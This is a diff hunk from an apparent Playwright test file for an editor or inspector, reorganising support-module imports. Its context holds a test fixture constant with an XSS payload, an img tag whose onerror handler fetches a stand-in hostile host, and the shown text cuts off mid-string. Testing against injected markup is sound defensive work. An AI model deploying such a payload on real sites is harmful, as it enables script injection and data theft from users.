@@ -5,7 +5,8 @@ import type { Frame, Page } from 'playwright-core';
 import { byId, inspect, openSettings, unfoldWarnings } from '../support/inspectorPage';
 import { inRepository } from '../support/repository';
 import { openSharedEditor, type SharedEditor } from '../support/sharedEditor';
-import { collectComplaints, explorerRow, type PageComplaints, quiet } from '../support/workbench';
+import { quiet } from '../support/pictures';
+import { collectComplaints, explorerRow, type PageComplaints } from '../support/workbench';
 
 const markup = '<img src=x onerror="fetch(\'http://hostile.invalid/';
 /** A file name may hold no slash. */
